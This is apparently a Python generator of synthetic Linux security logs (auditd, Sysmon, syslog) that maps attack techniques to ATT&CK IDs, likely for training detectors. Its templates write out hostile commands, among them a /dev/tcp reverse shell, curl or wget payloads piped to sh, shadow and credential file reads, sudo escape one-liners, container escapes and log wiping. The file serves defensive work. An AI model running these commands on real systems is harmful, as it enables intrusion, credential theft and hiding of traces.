"""Attacks and daily work of Linux hosts as auditd, Sysmon for Linux, syslog and shells record them, with appliances' lines."""

from __future__ import annotations

import re

from training.generators.grammar import Template, parse_templates

_IDS = "ppid=‹pid› pid=‹pid› auid=«1000¦1001¦4294967295» uid=0 gid=0 euid=0 suid=0 fsuid=0 tty=«pts0¦pts1¦(none)» ses=«‹n›¦4294967295»"
_SYSMON = '«sysmon¦sysmon[‹pid›]»: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>#</EventID><Version>«2¦3¦5»</Version><Channel>Linux-Sysmon/Operational</Channel></System><EventData><Data Name="RuleName">-</Data><Data Name="ProcessId">‹pid›</Data>'
# What rows write short: a record's head, and `~Field=value` for a field of Sysmon.
_SHORT = {
    **{f"‹sm{event}›": _SYSMON.replace("#", str(event)) for event in (1, 3, 5, 11, 23)},
    "‹exec›": f"type=SYSCALL ‹msg› arch=c000003e syscall=59 success=yes exit=0 items=2 {_IDS}",
    "‹open›": f"type=SYSCALL ‹msg› arch=c000003e syscall=257 success=yes exit=3 a1=7ffd‹pid›c0 items=1 {_IDS}",
    "‹create›": f"type=SYSCALL ‹msg› arch=c000003e syscall=257 success=yes exit=3 a2=«241¦441» items=2 {_IDS}",
    "‹unlink›": f"type=SYSCALL ‹msg› arch=c000003e syscall=«87¦263» success=yes exit=0 items=2 {_IDS}",
    "‹call›": f"{_IDS}",
    "‹file›": "inode=‹pid› dev=«fd:00¦08:01¦103:02» mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=«NORMAL¦CREATE»",
    "‹made›": "inode=‹pid› dev=«fd:00¦08:01» mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE",
    "‹gone›": "inode=‹pid› dev=«fd:00¦08:01» mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=DELETE",
    "‹um›": "pid=‹pid› uid=0 auid=«1000¦0¦4294967295» ses=«‹n›¦4294967295» msg=",
    "‹sys›": "pid=1 uid=0 auid=4294967295 ses=4294967295 msg=",
    "‹init›": 'comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success',
}
_FIELD = re.compile(r"~([A-Z][A-Za-z]+)=((?:(?!~[A-Z]).)*)")


def _rows(text: str) -> tuple[Template, ...]:
    return tuple(one._replace(pattern=_written_out(one.pattern)) for one in parse_templates(text))


def _written_out(pattern: str) -> str:
    """The pattern with its heads and Sysmon fields in full."""
    if pattern.startswith("‹sm"):
        pattern = _FIELD.sub(lambda one: f'<Data Name="{one[1]}">{_escaped(one[2])}</Data>', pattern)
        pattern += "</EventData></Event>"
    for short, full in _SHORT.items():
        pattern = pattern.replace(short, full)
    return pattern


def _escaped(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


RECORDED_LINUX_EVENTS = _rows(
    r"""
# Credentials
lr-mem-gcore audit +T1003.007: ‹exec› comm="gcore" exe="/usr/bin/bash" key="procmem"↵type=EXECVE ‹msg› argc=4 a0="gcore" a1="-o" a2="/tmp/‹name›" a3="‹pid›"
lr-mem-open audit +T1003.007: ‹open› comm="mimipenguin" exe="«/tmp¦/opt¦/root»/mimipenguin" key="proc_mem"↵type=PATH ‹msg› item=0 name="/proc/‹pid›/«mem¦maps»" ‹file›
lr-mem-sysmon syslog +T1003.007: ‹sm1›~Image=/usr/bin/dd~CommandLine=dd if=/proc/‹pid›/mem of=/dev/shm/‹name› bs=1 skip=14073‹pid›8 count=«4096¦135168»~User=root~ParentImage=/usr/bin/bash
lr-shadow-exec audit +T1003.008: type=EXECVE ‹msg› argc=2 a0="«cat¦tail¦base64¦xxd»" a1="/etc/shadow"
lr-shadow-denied audit +T1003.008: type=SYSCALL ‹msg› arch=c000003e syscall=257 success=no exit=-13 items=1 ppid=‹pid› pid=‹pid› auid=4294967295 uid=33 gid=33 euid=33 tty=(none) ses=4294967295 comm="«cat¦sh¦php»" exe="/usr/bin/«cat¦dash¦php8.1»" key="shadow_access"↵type=PATH ‹msg› item=0 name="/etc/shadow" ‹file›
lr-shadow-sudo syslog +T1003.008: sudo: ‹user› : TTY=pts/‹n› ; PWD=«/tmp¦/home/‹user›» ; USER=root ; COMMAND=/usr/bin/«cat¦less¦cp¦head» /etc/shadow« /tmp/‹name›¦»
lr-shadow-usercmd audit +T1003.008: type=USER_CMD ‹msg› ‹um›'cwd="/home/‹first›" cmd="cat /etc/«shadow¦gshadow¦security/opasswd»" exe="/usr/bin/sudo" terminal=pts/‹n› res=success'
lr-shadow-unshadow syslog +T1003.008: ‹sm1›~Image=/usr/sbin/unshadow~CommandLine=unshadow /etc/passwd /etc/shadow~CurrentDirectory=«/tmp¦/root»~User=root~ParentCommandLine=-bash
lr-sssd-read audit +T1003.005: ‹exec› comm="tdbdump" exe="/usr/bin/tdbdump"↵type=EXECVE ‹msg› argc=2 a0="tdbdump" a1="/var/lib/sss/db/cache_‹fqdn›.ldb"
lr-keytab-read audit +T1558: ‹open› comm="«python3¦cp¦base64»" exe="/usr/bin/«python3.10¦cp¦base64»" key="krb"↵type=PATH ‹msg› item=0 name="«/etc/krb5.keytab¦/tmp/krb5cc_‹pid›»" ‹file›
lr-history-read syslog +T1552.003: ‹sm1›~Image=«/usr/bin/cat~CommandLine=cat /home/‹first›/.bash_history¦/usr/bin/grep~CommandLine=grep -i pass /root/.bash_history¦/usr/bin/strings~CommandLine=strings /home/‹first›/.mysql_history»~User=root~ParentImage=/usr/bin/bash
lr-key-sysmon syslog +T1552.004: ‹sm1›~Image=/usr/bin/find~CommandLine=find / -name «id_rsa¦id_ed25519¦*.ppk» -o -name *.pem~User=«www-data¦root»~ParentImage=«/usr/bin/dash¦/usr/bin/python3.10»
lr-key-copy audit +T1552.004: type=EXECVE ‹msg› argc=4 a0="cp" a1="-r" a2="/«root¦home/‹first›»/.ssh" a3="«/tmp¦/dev/shm¦/var/tmp»/.‹name›"
lr-imds-connect syslog +T1552.005: ‹sm3›~Image=«/tmp/‹name›¦/usr/bin/curl»~User=www-data~Protocol=tcp~Initiated=true~SourceIp=‹ip›~SourcePort=4‹pid›~DestinationIp=169.254.169.254~DestinationPort=80
lr-cred-grep audit +T1552.001: type=EXECVE ‹msg› argc=5 a0="grep" a1="-«rni¦riE¦RHi»" a2="«password¦passwd=¦secret_key¦aws_access»" a3="«/etc¦/var/www¦/home¦/opt»" a4="--include=*.«php¦conf¦yml¦env¦ini»"
lr-cred-aws syslog +T1552.001: ‹sm1›~Image=/usr/bin/cat~CommandLine=cat /«root¦home/‹first›»/.«aws/credentials¦kube/config¦docker/config.json¦git-credentials¦pgpass»~User=«root¦www-data»~ParentImage=«/tmp/‹name›¦/usr/bin/dash»
lr-token-read audit +T1552.007: ‹open› comm="«cat¦curl¦‹name›»" exe="«/usr/bin/cat¦/usr/bin/curl¦/tmp/‹name›»"↵type=PATH ‹msg› item=0 name="/var/run/secrets/kubernetes.io/serviceaccount/token" ‹file›
# Guessing
lr-guess-invalid syslog +T1110.001: sshd[‹pid›]: message repeated «3¦5¦6» times: [ Failed password for invalid user «oracle¦test¦ubnt¦pi¦postgres¦git» from ‹ip› port ‹pid› ssh2]
lr-guess-max syslog +T1110.001: sshd[‹pid›]: Disconnecting invalid user «admin¦support¦user¦ftpuser» ‹ip› port ‹pid›: Too many authentication failures [preauth]
lr-guess-pam syslog +T1110.001: sshd[‹pid›]: PAM «4¦5» more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=‹ip›  user=«root¦admin»
lr-guess-sudo syslog +T1110.001: sudo: pam_faillock(sudo:auth): Consecutive login failures for user ‹user› account temporarily locked
lr-guess-anom audit +T1110.001: type=ANOM_LOGIN_FAILURES ‹msg› ‹um›'pam_faillock uid=‹pid› exe="/usr/«sbin/sshd¦bin/su¦bin/sudo»" hostname=‹ip› addr=‹ip› terminal=ssh res=success'
lr-guess-lock audit +T1110.001: type=RESP_ACCT_LOCK ‹msg› ‹um›'op=pam_faillock suid=‹pid› exe="/usr/sbin/sshd" hostname=‹ip› addr=‹ip› terminal=ssh res=success'
lr-guess-dovecot syslog +T1110.001: dovecot: «imap¦pop3»-login: Disconnected: Too many invalid commands (auth failed, «10¦18¦25» attempts in ‹n› secs): user=<«admin¦info¦root»>, method=PLAIN, rip=‹ip›, lip=‹ip›
lr-guess-tool audit +T1110.001: ‹exec› comm="hydra" exe="/usr/bin/hydra"↵type=EXECVE ‹msg› argc=6 a0="hydra" a1="-l" a2="«root¦admin»" a3="-P" a4="«rockyou.txt¦/usr/share/wordlists/rockyou.txt»" a5="«ssh¦ftp¦mysql»://‹ip›"
lr-spray-tool syslog +T1110.003: ‹sm1›~Image=«/usr/bin/medusa~CommandLine=medusa -H hosts.txt -u root -p ‹pass› -M ssh¦/usr/bin/hydra~CommandLine=hydra -L users.txt -p ‹pass› ssh://‹ip›¦/usr/bin/ncrack~CommandLine=ncrack -U users.txt --pass ‹pass› ssh://‹ip›»~User=root~ParentImage=/usr/bin/bash
lr-crack-john audit +T1110.002: ‹exec› «comm="john" exe="«/usr/sbin/john¦/opt/john/run/john»"¦comm="hashcat" exe="/usr/bin/hashcat"» key="exec"
# Discovery
lr-net-tcp audit +T1049: type=EXECVE ‹msg› argc=2 a0="«ss¦netstat»" a1="«-antup¦-plant¦-tulpn»"
lr-net-sysmon syslog +T1049: ‹sm1›~Image=/usr/bin/netstat~CommandLine=netstat -«antp¦tulnp¦anp»~User=www-data~ParentImage=/usr/sbin/apache2~ParentCommandLine=/usr/sbin/apache2 -k start
lr-passwd-web syslog +T1087.001: ‹sm1›~Image=/usr/bin/cat~CommandLine=cat /etc/passwd~CurrentDirectory=/var/www/html~User=«www-data¦apache¦tomcat»~ParentImage=/usr/bin/dash~ParentCommandLine=sh -c cat /etc/passwd
lr-passwd-exec audit +T1087.001: type=EXECVE ‹msg› argc=2 a0="«cat¦less¦head»" a1="/etc/passwd"
lr-linpeas syslog +T1082: ‹sm1›~Image=/usr/bin/bash~CommandLine=«bash /tmp/linpeas.sh -a¦sh ./linpeas.sh¦bash LinEnum.sh -t¦bash lse.sh -l1¦perl linux-exploit-suggester-2.pl»~User=«www-data¦‹first›»~ParentImage=/usr/bin/bash
lr-uname-web audit +T1082: ‹exec› comm="uname" exe="/usr/bin/uname" key="recon"↵type=EXECVE ‹msg› argc=2 a0="uname" a1="-a"↵type=CWD ‹msg› cwd="«/var/www/html¦/tmp¦/dev/shm»"
lr-id-web syslog +T1033: ‹sm1›~Image=«/usr/bin/id~CommandLine=id¦/usr/bin/whoami~CommandLine=whoami»~CurrentDirectory=/«opt/tomcat¦var/www/html¦opt/confluence»~User=«tomcat¦www-data¦confluence»~ParentImage=«/usr/lib/jvm/java-11-openjdk-amd64/bin/java¦/usr/sbin/php-fpm8.1»
lr-nmap-sysmon syslog +T1046: ‹sm1›~Image=/usr/bin/nmap~CommandLine=nmap -«sT -p 22,80,443,3306,5432,6379¦Pn -sV --top-ports 1000¦sS -T4» 10.‹n›.‹n›.0/24~User=«root¦‹first›»~ParentImage=/usr/bin/bash
lr-scan-connect syslog +T1046: ‹sm3›~Image=«/tmp/fscan¦/dev/shm/.x/pscan¦/usr/bin/masscan¦/tmp/.‹name›/zgrab»~User=root~Protocol=tcp~Initiated=true~SourceIp=‹ip›~DestinationIp=10.‹n›.‹n›.‹n›~DestinationPort=«22¦445¦6379¦2375»
lr-scan-firewall syslog +T1046: portsentry[‹pid›]: attackalert: TCP SYN/Normal scan from host: ‹ip›/‹ip› to TCP port: «1¦11¦79¦111¦1524¦31337»
lr-sweep-audit audit +T1018: type=EXECVE ‹msg› argc=3 a0="«arp-scan¦fping»" a1="«--localnet¦-aqg»" a2="10.‹n›.‹n›.0/24"
lr-ps-guards audit +T1518.001: ‹exec› comm="grep" exe="/usr/bin/grep"↵type=EXECVE ‹msg› argc=3 a0="grep" a1="-«iE¦E»" a2="«falcon|wazuh|ossec|auditd¦sentinel|cbdaemon|mdatp|clamd¦aegis|aliyun|qcloud|bcm-agent»"
lr-find-suid audit +T1083: ‹exec› comm="find" exe="/usr/bin/find" key="recon"↵type=EXECVE ‹msg› argc=7 a0="find" a1="/" a2="-perm" a3="«-4000¦-u=s¦/6000»" a4="-type" a5="f" a6="-ls"
lr-getcap syslog +T1083: ‹sm1›~Image=/usr/sbin/getcap~CommandLine=getcap -r /~User=«www-data¦‹first›¦nobody»~ParentImage=/usr/bin/«bash¦dash»
# Running and reaching out
lr-revshell-connect syslog +T1059.004: ‹sm3›~Image=/usr/bin/«bash¦dash»~User=«www-data¦root¦postgres»~Protocol=tcp~Initiated=true~SourceIp=‹ip›~SourcePort=4‹pid›~DestinationIp=‹ip›~DestinationPort=«4444¦9001¦1337¦443»
lr-revshell-audit audit +T1059.004: type=EXECVE ‹msg› argc=3 a0="«sh¦bash¦/bin/sh»" a1="-c" a2="bash${IFS}-i>&/dev/tcp/‹ip›/«4444¦9001»<&1"
lr-shell-web audit +T1059.004: type=SYSCALL ‹msg› arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=‹pid› pid=‹pid› auid=4294967295 uid=33 gid=33 euid=33 tty=(none) ses=4294967295 comm="bash" exe="/usr/bin/bash" key="webshell"↵type=EXECVE ‹msg› argc=2 a0="bash" a1="-i"
lr-python-pty syslog +T1059.006: ‹sm1›~Image=/usr/bin/python3.«8¦10¦11»~CommandLine=python3 -c import pty;pty.spawn("/bin/«bash¦sh»")~User=«www-data¦tomcat¦postgres»~ParentImage=/usr/bin/dash
lr-python-exec audit +T1059.006: ‹exec› comm="python3" exe="/usr/bin/python3.10"↵type=EXECVE ‹msg› argc=3 a0="python3" a1="-c" a2="import('urllib.request').urlopen('http://‹ip›/‹name›').read()"
lr-curl-sysmon syslog +T1105: ‹sm1›~Image=«/usr/bin/curl~CommandLine=curl -fsSL http://‹ip›:«8080¦8000»/‹name› -o /tmp/.‹name›¦/usr/bin/wget~CommandLine=wget -q http://‹ip›/‹name›.elf -O /dev/shm/‹name›»~User=«root¦www-data¦redis»~ParentImage=/usr/bin/«dash¦bash»
lr-curl-audit audit +T1105: type=EXECVE ‹msg› argc=4 a0="wget" a1="http://‹ip›/«x86_64¦mips¦arm7¦‹name›.sh»" a2="-O" a3="/tmp/«.‹name›¦‹name›»"
lr-dropped-file syslog +T1105: ‹sm11›~Image=/usr/bin/«curl¦wget¦tftp»~TargetFilename=/«tmp¦dev/shm¦var/tmp»/«.‹name›¦‹name›.elf¦kinsing¦xmrig.tar.gz»~User=«root¦www-data»
lr-copied-tool syslog +T1105: ‹sm11›~Image=/usr/bin/scp~TargetFilename=/«tmp¦dev/shm»/«chisel¦fscan_amd64¦pspy64¦linpeas.sh¦gs-netcat»~User=‹first›
lr-nc-connect syslog +T1095: ‹sm3›~Image=/usr/bin/«nc.openbsd¦ncat¦socat¦nc.traditional»~User=«root¦www-data»~Protocol=«tcp¦udp»~Initiated=true~SourceIp=‹ip›~DestinationIp=‹ip›~DestinationPort=«4444¦31337¦8888»
lr-icmp-tunnel audit +T1095: ‹exec› comm="«ptunnel-ng¦icmpsh¦hans»" exe="/«tmp¦usr/local/bin¦opt»/«ptunnel-ng¦hans»" key="exec"
lr-chisel syslog +T1572: ‹sm1›~Image=/«tmp¦opt¦dev/shm»/«chisel¦‹name›»~CommandLine=./chisel client «http://‹ip›:8080¦--fingerprint ‹hash› ‹ip›:443» R:«socks¦1080:socks¦3389:127.0.0.1:3389»~User=root
lr-dns-tunnel audit +T1071.004: type=EXECVE ‹msg› argc=4 a0="iodine" a1="-f" a2="-P" a3="t.‹fqdn›"
lr-frp audit +T1090: type=EXECVE ‹msg› argc=3 a0="./frpc" a1="-c" a2="./frpc.ini"
lr-tor audit +T1090.003: type=SERVICE_START ‹msg› ‹sys›'unit=«tor@default¦tor» ‹init›'
lr-ssh-move syslog +T1021.004: ‹sm1›~Image=/usr/bin/ssh~CommandLine=ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i /root/.ssh/id_rsa root@10.‹n›.‹n›.‹n› (curl -s http://‹ip›/‹name›.sh || wget -qO- http://‹ip›/‹name›.sh) | bash~User=root~ParentImage=/usr/bin/bash
lr-sshpass-audit audit +T1021.004: ‹exec› comm="sshpass" exe="/usr/bin/sshpass"↵type=EXECVE ‹msg› argc=7 a0="sshpass" a1="-p" a2="‹pass›" a3="ssh" a4="-o" a5="UserKnownHostsFile=/dev/null" a6="root@‹ip›"
# Staying
lr-cron-edit syslog +T1053.003: ‹sm11›~Image=«/usr/bin/bash¦/usr/bin/dash¦/tmp/‹name›¦/usr/bin/python3.10»~TargetFilename=«/var/spool/cron/crontabs/«root¦www-data»¦/etc/cron.d/«apache¦root¦.‹name›»»~User=root
lr-cron-redis syslog +T1053.003: ‹sm11›~Image=/usr/bin/redis-server~TargetFilename=/var/spool/cron/«root¦crontabs/root»~User=«root¦redis»
lr-cron-shm syslog +T1053.003: «CRON¦CROND»[‹pid›]: (root) CMD (/dev/shm/.‹name›/«upd¦run¦start» > /dev/null 2>&1 & disown)
lr-cron-b64 syslog +T1053.003: CRON[‹pid›]: («root¦www-data») CMD (echo ‹hash› | base64 -d | «sh¦bash»)
lr-cron-exec audit +T1053.003: ‹exec› comm="crontab" exe="/usr/bin/crontab" key="cron"↵type=EXECVE ‹msg› argc=2 a0="crontab" a1="/«tmp¦dev/shm¦var/tmp»/«.‹name›¦cron.tmp¦c.txt»"
lr-timer-sysmon syslog +T1053.006: ‹sm11›~Image=«/usr/bin/bash¦/tmp/‹name›¦/usr/bin/tee»~TargetFilename=/etc/systemd/system/«‹name›¦sys-‹name›¦update-check».timer~User=root
lr-timer-run audit +T1053.006: ‹exec› comm="systemd-run" exe="/usr/bin/systemd-run"↵type=EXECVE ‹msg› argc=4 a0="systemd-run" a1="--on-calendar=*:0/«5¦10»" a2="«/tmp/‹name›¦/dev/shm/.‹name›»" a3="-d"
lr-unit-sysmon syslog +T1543.002: ‹sm11›~Image=«/tmp/‹name›¦/usr/bin/bash¦/usr/bin/python3.8»~TargetFilename=«/etc/systemd/system¦/usr/lib/systemd/system»/«‹name›¦kdevtmpfs¦network-check¦bot».service~User=root
lr-unit-failed syslog +T1543.002: systemd[1]: ‹name›.service: Failed at step EXEC spawning /«tmp¦dev/shm¦var/tmp»/«.‹name›¦‹name›»: No such file or directory
lr-unit-user syslog +T1543.002: ‹sm11›~Image=/usr/bin/«bash¦wget¦cp»~TargetFilename=/home/‹first›/.config/systemd/user/«‹name›¦dbus-update¦gvfs-daemon».service~User=‹first›
lr-init-script audit +T1037.004: ‹create› comm="«bash¦cp¦‹name›»" exe="«/usr/bin/bash¦/usr/bin/cp¦/tmp/‹name›»" key="init"↵type=PATH ‹msg› item=1 name="/etc/«init.d/«DbSecuritySpt¦selinux¦‹name›»¦rc.local¦rc.d/rc.local»" ‹made›
lr-bashrc-sysmon syslog +T1546.004: ‹sm11›~Image=«/tmp/‹name›¦/usr/bin/python3.10¦/usr/bin/perl»~TargetFilename=«/home/‹first›/.bashrc¦/root/.bash_profile¦/etc/profile.d/‹name›.sh¦/etc/zsh/zshenv»~User=«root¦‹first›»
lr-profile-exec audit +T1546.004: ‹exec› comm="tee" exe="/usr/bin/tee"↵type=EXECVE ‹msg› argc=3 a0="tee" a1="-a" a2="«/etc/profile¦/etc/bash.bashrc¦/root/.bashrc¦/home/‹first›/.profile»"
lr-udev audit +T1546: ‹create› comm="«bash¦tee¦cp»" exe="/usr/bin/«bash¦tee¦cp»"↵type=PATH ‹msg› item=1 name="/etc/udev/rules.d/«99-‹name›¦10-‹name›¦75-persistence».rules" ‹made›
lr-motd audit +T1546: ‹create› comm="«bash¦tee¦‹name›»" exe="«/usr/bin/bash¦/usr/bin/tee¦/tmp/‹name›»" key="motd"↵type=PATH ‹msg› item=1 name="/etc/update-motd.d/«00-header¦01-‹name›¦99-‹name›»" ‹made›
lr-keys-sysmon syslog +T1098.004: ‹sm11›~Image=«/usr/bin/bash¦/tmp/‹name›¦/usr/bin/tee¦/usr/bin/redis-server»~TargetFilename=«/root¦/home/‹first›¦/var/lib/postgresql»/.ssh/authorized_keys«2¦»~User=«root¦postgres»
lr-keys-exec audit +T1098.004: ‹exec› comm="chattr" exe="/usr/bin/chattr"↵type=EXECVE ‹msg› argc=3 a0="chattr" a1="+«i¦ia»" a2="/root/.ssh/authorized_keys"
lr-pam-sysmon syslog +T1556.003: ‹sm11›~Image=«/usr/bin/cp¦/usr/bin/mv¦/tmp/‹name›¦/usr/bin/gcc»~TargetFilename=«/lib/x86_64-linux-gnu/security¦/usr/lib64/security¦/lib/security»/pam_«unix¦‹name›¦lib».so~User=root
lr-pam-crash syslog +T1556.003: «sshd¦su»[‹pid›]: PAM adding faulty module: /«tmp¦lib/x86_64-linux-gnu/security»/«pam_‹name›¦.‹name›».so
lr-user-uid0 audit +T1136.001: type=ADD_USER ‹msg› ‹um›'op=adding user acct="«toor¦sysd¦‹name›¦admin2»" id=0 exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/‹n› res=success'
lr-user-web audit +T1136.001: ‹exec› comm="useradd" exe="/usr/sbin/useradd"↵type=EXECVE ‹msg› argc=8 a0="useradd" a1="-o" a2="-u" a3="0" a4="-g" a5="0" a6="-M" a7="«‹name›¦system¦hilde¦vfinder»"
lr-group-audit audit +T1098.007: type=USER_MGMT ‹msg› ‹um›'op=add-user-to-group grp="«sudo¦wheel¦docker¦shadow»" acct="«www-data¦‹name›¦nobody¦postgres»" exe="/usr/«sbin/usermod¦bin/gpasswd»" hostname=? addr=? terminal=pts/‹n› res=success'
# Raising
lr-suid-audit audit +T1548.001: ‹exec› comm="chmod" exe="/usr/bin/chmod" key="perm_mod"↵type=EXECVE ‹msg› argc=3 a0="chmod" a1="«u+s¦4755¦+s¦6777»" a2="«/bin/bash¦/tmp/‹name›¦/usr/bin/python3¦/usr/bin/find¦/var/tmp/.sh»"
lr-suid-bash syslog +T1548.001: ‹sm1›~Image=«/tmp/rootbash~CommandLine=/tmp/rootbash -p¦/usr/bin/bash~CommandLine=bash -p¦/usr/bin/bash~CommandLine=./bash -p¦/tmp/.sh~CommandLine=/tmp/.sh -p»~User=«www-data¦‹first›»~ParentImage=/usr/bin/«bash¦dash»
lr-setcap audit +T1548.001: ‹exec› comm="setcap" exe="/usr/sbin/setcap"↵type=EXECVE ‹msg› argc=3 a0="setcap" a1="cap_setuid+ep" a2="/usr/bin/«python3.10¦perl¦vim.basic¦tar¦node»"
lr-sudo-gtfo syslog +T1548.003: sudo: ‹user› : TTY=pts/‹n› ; PWD=«/tmp¦/home/‹user›» ; USER=root ; COMMAND=«/usr/bin/find . -exec /bin/sh ;¦/usr/bin/awk BEGIN {system("/bin/sh")}¦/usr/bin/python3 -c import os; os.system("/bin/bash")¦/usr/bin/vim -c :!/bin/bash¦/usr/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh¦/usr/bin/env /bin/bash¦/usr/bin/perl -e exec "/bin/sh";»
lr-sudo-minus1 syslog +T1548.003: sudo: ‹user› : TTY=pts/‹n› ; PWD=/home/‹user› ; USER=#-1 ; COMMAND=/«bin/bash¦usr/bin/id¦usr/bin/vim»
lr-sudoers-sysmon syslog +T1548.003: ‹sm11›~Image=«/usr/bin/bash¦/usr/bin/tee¦/tmp/‹name›»~TargetFilename=/etc/sudoers.d/«‹name›¦www-data¦99-‹name›»~User=root
lr-sudoers-echo audit +T1548.003: type=USER_CMD ‹msg› ‹um›'cwd="/tmp" cmd="tee -a /etc/sudoers«.d/‹name›¦»" exe="/usr/bin/sudo" terminal=pts/‹n› res=success'
lr-pkexec-audit audit +T1068: ‹exec› comm="pkexec" exe="/usr/bin/pkexec" key="pkexec"↵type=EXECVE ‹msg› argc=0
lr-anom-abend audit +T1068: type=ANOM_ABEND ‹msg› auid=1000 uid=1000 gid=1000 ses=‹n› pid=‹pid› comm="sudoedit" exe="/usr/bin/sudo" sig=«6¦11» res=1
lr-ns-escape audit +T1611: ‹exec› comm="nsenter" exe="/usr/bin/nsenter"↵type=EXECVE ‹msg› argc=«7¦8» a0="nsenter" a1="--target" a2="1" a3="--mount" a4="--uts" a5="--ipc" a6="«/bin/bash¦sh»"
lr-core-pattern audit +T1611: ‹create› comm="«sh¦bash¦‹name›»" exe="«/usr/bin/dash¦/usr/bin/bash¦/tmp/‹name›»"↵type=PATH ‹msg› item=0 name="«/host/proc/sys/kernel/core_pattern¦/sys/fs/cgroup/rdma/release_agent¦/tmp/cgrp/release_agent»" ‹made›
lr-runc-dockerd syslog +T1610: dockerd[‹pid›]: time="20«23¦24¦25»-0«2¦7»-1«1¦8»T0«2¦9»:17:5«1¦4».‹pid›Z" level=«debug¦info» msg="Calling POST /v1.«24¦41»/containers/create" form-data="{\"Image\":\"alpine\",\"Cmd\":[\"chroot\",\"/mnt\",\"/bin/sh\",\"-c\",\"curl ‹ip›/‹name›.sh|sh\"],\"HostConfig\":{\"Binds\":[\"/:/mnt\"],\"Privileged\":true}}"
lr-docker-priv audit +T1610: ‹exec› comm="docker" exe="/usr/bin/docker"↵type=EXECVE ‹msg› argc=9 a0="docker" a1="run" a2="--rm" a3="-it" a4="-v" a5="/:/«mnt¦host»" a6="alpine" a7="chroot" a8="/«mnt¦host»"
# Kernel, libraries
lr-module-sysmon syslog +T1547.006: ‹sm1›~Image=/usr/«sbin/insmod¦bin/kmod»~CommandLine=insmod «/tmp/‹name›.ko¦./rootkit.ko¦/dev/shm/.‹name›.ko hide=1»~User=root~ParentImage=/usr/bin/bash
lr-module-kernmod audit +T1547.006: type=KERN_MODULE ‹msg› name="«diamorphine¦reptile¦‹name›_hook»"↵type=SYSCALL ‹msg› arch=c000003e syscall=313 success=yes exit=0 items=0 ‹call› comm="insmod" exe="/usr/bin/kmod" key="modules"
lr-rootkit-syslog syslog +T1014: kernel: [‹pid›.‹pid›] «reptile¦kovid¦nuk3gh0st¦adore_ng¦suterusu»: loading out-of-tree module taints kernel.
lr-rootkit-bpf syslog +T1014: rkhunter[‹pid›]: Warning: «Rootkit 'Diamorphine' found¦Hidden processes found: ‹pid›¦Suspicious file '/usr/lib/libprocesshider.so' (‹word›) preloaded¦System call 'getdents64' hooked»
lr-rootkit-chk syslog +T1014: «chkrootkit¦ossec: rootcheck»: «INFECTED: Possible Malicious Linux.Xor.DDoS installed in /tmp/‹name›¦Process '‹pid›' hidden from /proc. Possible kernel level rootkit.¦Rootkit 'Reptile' detected by the presence of file '/reptile/reptile_cmd'.»
lr-preload-sysmon syslog +T1574.006: ‹sm11›~Image=«/usr/bin/bash¦/tmp/‹name›¦/usr/bin/mv»~TargetFilename=/etc/ld.so.preload~User=root
lr-preload-broken syslog +T1574.006: «cron¦sshd¦sudo»[‹pid›]: ERROR: ld.so: object '/«usr/local/lib/lib‹name›.so¦tmp/‹name›.so¦lib/libprocesshider.so»' from /etc/ld.so.preload cannot be preloaded (cannot open shared object file): ignored.
lr-preload-env audit +T1574.006: ‹exec› comm="env" exe="/usr/bin/env"↵type=EXECVE ‹msg› argc=3 a0="env" a1="LD_PRELOAD=/«tmp¦dev/shm¦var/tmp»/«.‹name›¦‹name›».so" a2="«sudo¦/usr/sbin/sshd¦id»"
lr-ptrace-inject audit +T1055: type=SYSCALL ‹msg› arch=c000003e syscall=101 success=yes exit=0 a0=«4¦5» a1=‹pid› items=0 ‹call› comm="«inject¦‹name›¦linux-inject»" exe="«/tmp/inject¦/dev/shm/‹name›»" key="code_injection"
# Traces
lr-log-sysmon syslog +T1685.006: ‹sm23›~Image=/usr/bin/«rm¦shred»~TargetFilename=/var/log/«auth.log¦wtmp¦btmp¦lastlog¦secure¦audit/audit.log¦messages»~Archived=-~User=root
lr-log-truncate audit +T1685.006: type=EXECVE ‹msg› argc=4 a0="truncate" a1="-s" a2="0" a3="/var/log/«wtmp¦auth.log¦secure¦btmp¦syslog»"
lr-log-journal audit +T1685.006: type=USER_CMD ‹msg› ‹um›'cwd="/root" cmd="journalctl --rotate --vacuum-«time=1s¦size=1K»" exe="/usr/bin/sudo" terminal=pts/‹n› res=success'
lr-history-sysmon syslog +T1070.003: ‹sm23›~Image=/usr/bin/«rm¦shred¦unlink»~TargetFilename=/«root¦home/‹first›»/.«bash_history¦zsh_history¦python_history»~User=«root¦‹first›»
lr-history-link audit +T1070.003: ‹exec› comm="ln" exe="/usr/bin/ln"↵type=EXECVE ‹msg› argc=4 a0="ln" a1="-sf" a2="/dev/null" a3="/«root¦home/‹first›»/.bash_history"
lr-delete-self syslog +T1070.004: ‹sm23›~Image=«/tmp/‹name›¦/usr/bin/rm¦/usr/bin/shred»~TargetFilename=/«tmp¦dev/shm¦var/tmp»/«.‹name›¦‹name›.elf¦linpeas.sh¦exploit.c»~User=«root¦www-data»
lr-timestomp syslog +T1070.006: ‹sm1›~Image=/usr/bin/touch~CommandLine=touch «-r /usr/bin/ls /usr/bin/‹name›¦-acmr /bin/sh /lib/systemd/system/‹name›.service¦-t 2018010112«00¦12» /tmp/.‹name›¦-d "2016-04-01 10:00" /var/www/html/‹name›.php»~User=root~ParentImage=/usr/bin/bash
lr-clock audit +T1070.006: type=SYSCALL ‹msg› arch=c000003e syscall=«280¦261» success=yes exit=0 items=1 ‹call› comm="touch" exe="/usr/bin/touch" key="timestomp"↵type=PATH ‹msg› item=0 name="«/tmp/.‹name›¦/usr/sbin/‹name›¦/var/www/html/‹name›.php»" ‹file›
lr-audit-exec audit +T1685.004: ‹exec› comm="auditctl" exe="/usr/sbin/auditctl"↵type=EXECVE ‹msg› argc=«2 a0="auditctl" a1="-D"¦3 a0="auditctl" a1="-e" a2="0"»
